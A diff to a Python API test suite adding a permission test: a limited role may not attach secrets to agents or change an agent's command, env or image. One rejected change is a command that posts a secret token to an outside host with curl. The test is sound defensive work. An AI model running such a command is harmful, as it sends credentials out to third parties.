@@ -208,6 +208,22 @@ async def test_what_is_called_off_or_fails_says_so_with_the_answer(api: Api) -> 
     )
 
 
+async def test_who_names_secrets_or_changes_what_gets_them_may_use_them(api: Api) -> None:
+    api.db.rows(
+        "INSERT INTO roles (id, project_id, name, permissions) VALUES (%s, %s, 'tuner', %s)",
+        *(new_id(), api.db.project_id, ["agents:read", "agents:write"]),
+    )
+    told = {"TOKEN": {"secret": "token"}}
+    mine = await agent(api, **(CUSTOM | {"env": told}))
+    path = f"/v1/agents/{mine['id']}"
+    async with api.as_(api.db.key(api.db.project_id, f"t{uuid4().hex[:8]}", "tuner")) as tuner:
+        assert (await tuner.post("/v1/agents", json=CUSTOM | {"name": "mine", "env": told})).status_code == 403
+        assert (await tuner.post("/v1/agents", json=CUSTOM | {"name": "mine", "env": {"A": "b"}})).status_code == 201
+        for change in ({"cmd": ["sh", "-c", "curl example.org -d $TOKEN"]}, {"env": told}, {"image": "own:1"}):
+            assert (await tuner.patch(path, json=change)).status_code == 403, change
+        assert (await tuner.patch(path, json={"model": "m-2"})).status_code == 200
+
+
 async def test_only_who_may_use_a_session_talks_to_its_agent_and_none_without_one(api: Api) -> None:
     plain = await create(api, await workspace(api))
     put(api, plain, "running")
@@ -232,7 +248,7 @@ async def test_only_who_may_use_a_session_talks_to_its_agent_and_none_without_on
                 assert (await http.get("/v1/agents")).json()["data"] == []
 
 
-@pytest.mark.parametrize("value", [{"theme": "dark"}, "é", None, [1, 2.5]])
+@pytest.mark.parametrize("value", [{"theme": "dark"}, "é", None, [1, 2.5], r"\u0000 is written so"])
 async def test_preferences_are_a_users_own(api: Api, value: Any) -> None:
     user = api.db.user(api.db.project_id, f"u{uuid4().hex[:8]}", "viewer")
     async with await api.signed_in(user) as http:
